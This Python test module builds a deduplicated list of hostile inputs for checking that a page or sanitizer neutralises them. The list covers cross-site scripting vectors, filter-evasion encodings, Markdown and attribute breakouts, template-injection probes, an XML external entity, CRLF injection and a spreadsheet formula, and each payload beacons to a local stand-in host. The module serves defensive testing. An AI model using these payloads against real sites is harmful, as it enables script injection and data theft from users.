"""Words that would do harm if a page took them for anything but words: our own list, for tests alone.

What each wants to do is `GRAB`: it would be seen as a dialog, a request, or a mark on the window.
"""

from __future__ import annotations

GRAB = "window.grabbed=1;alert(1);new(Image).src='http://127.0.0.1:9/g'"

_EVENTS = ("onload", "onerror", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpointerenter",
           "onbegin", "onscroll")  # fmt: skip
_TAGS = ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "iframe",
         "object data=x", "embed src=x", "select autofocus", "textarea autofocus", "marquee", "math", "style",
         "a href=x tabindex=1 autofocus", "svg><animate attributeName=x dur=1s", "link rel=stylesheet href=x",
         "p style=animation-name:x", "button autofocus")  # fmt: skip
_LINKS = ("javascript:", "JaVaScRiPt:", "java\tscript:", " javascript:", "javascript&colon;", "&#106;avascript:",
          "vbscript:", "data:text/html,<script>", "data:image/svg+xml,<svg onload=", "file:///etc/hostname?",
          "blob:", "jav&#x0A;ascript:", "\x01javascript:", "javascript://%0a", "view-source:", "//127.0.0.1:9/?")  # fmt: skip
_WHOLE = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script/x>{}</script >", "<script\n>{}</script\n>",
    "<<script>{}//<</script>", "<scr<script>ipt>{}</scr</script>ipt>", "</script><script>{}</script>",
    "</style><script>{}</script>", "</title><script>{}</script>", "</textarea><script>{}</script>",
    "--><script>{}</script>", "--!><script>{}</script>", "]]><script>{}</script>", "<!--<script>{}",
    "<!--beside--><script>{}</script><!--/beside-->", "<!--/beside--><script>{}</script>",
    "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;", "%3Cscript%3E{}%3C/script%3E",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e", "\uff1cscript\uff1e{}\uff1c/script\uff1e", "+ADw-script+AD4-{}",
    "<script src=//127.0.0.1:9/x.js></script>", "<script type=module>{}</script>",
    '<script type="application/ld+json">{}</script>', "<noscript><p title='</noscript><script>{}</script>'>",
    "<svg><script>{}</script></svg>", "<svg><script xlink:href=//127.0.0.1:9/x.js /></svg>",
    "<svg><foreignObject><iframe onload={}></foreignObject></svg>", "<math><mtext></p><img src=x onerror={}>",
    "<template><script>{}</script></template>", "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=//127.0.0.1:9/'>", "<base href=//127.0.0.1:9/>",
    "<form action=//127.0.0.1:9/><button>x", "<button formaction='javascript:{}'>x",
    "<link rel=prefetch href=//127.0.0.1:9/p>", "<style>@import '//127.0.0.1:9/s';</style>",
    "<style>*{{background:url(//127.0.0.1:9/b)}}</style>", "<img src=//127.0.0.1:9/i>", "<img srcset='//127.0.0.1:9/i 1x'>",
    "<table background=//127.0.0.1:9/t>", "<input type=image src=//127.0.0.1:9/i>", "<a ping=//127.0.0.1:9/p href=#>x</a>",
    '" onmouseover="{}" x="', "' onmouseover='{}' x='", '"><img src=x onerror="{}">', "'><img src=x onerror='{}'>",
    '" autofocus onfocus="{}', "` onmouseover=`{}`", '"/><script>{}</script>', 'x" srcset="//127.0.0.1:9/i 1x',
    '"];{}//', "'];{}//", '"}}];{}//', '\\"];{}//', "\u2028{}\u2029", "*/{}/*", "${{{}}}", "';{};'", "\\';{}//", "</script>\n{}",
    "![x](//127.0.0.1:9/i)", "![x](javascript:{})", "[x]: javascript:{}\n[x]", "[x](<javascript:{}>)",
    '[x](//127.0.0.1:9/ "onmouseover={}")', "`<img src=x onerror={}>`", "```html onload={}\n<b>\n```",
    '<http://127.0.0.1:9/" onmouseover={}>', "[a]('onmouseover={})", "<b onclick={}>x</b>", "| <img src=x onerror={}> |\n|-|",
    "{{{{ 7 * 7 }}}}{}", "{{% for x in y %}}{}", "{{{{ self.__init__ }}}}", "{{{{ ''.__class__.__mro__ }}}}", "${{7*7}}{}",
    "\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nX:{}", "x\r\nATTACH:http://127.0.0.1:9/a", "\x00<script>{}</script>",
    "\u202e<script>{}</script>", "\ufeff<script>{}</script>", "<\x00script>{}</script>", "\x1b]8;;http://127.0.0.1:9/\x07x",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'http://127.0.0.1:9/'>]>&y;", "<?xml-stylesheet href='//127.0.0.1:9/x.xsl'?>",
    '=HYPERLINK("http://127.0.0.1:9/")', '"""\n[[lines]]\nmix = "x"\n"""',
)  # fmt: skip

#: All of them, none twice.
HOSTILE: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *(f"<{tag} {event}={GRAB}>" for tag, event in zip(_TAGS, _EVENTS * 2, strict=True)),
            *(f"[x]({link}{GRAB})" for link in _LINKS),
            *(f'<a href="{link}{GRAB}">x</a>' for link in _LINKS[:6]),
            *(form.format(GRAB) for form in _WHOLE),
        ]
    )
)
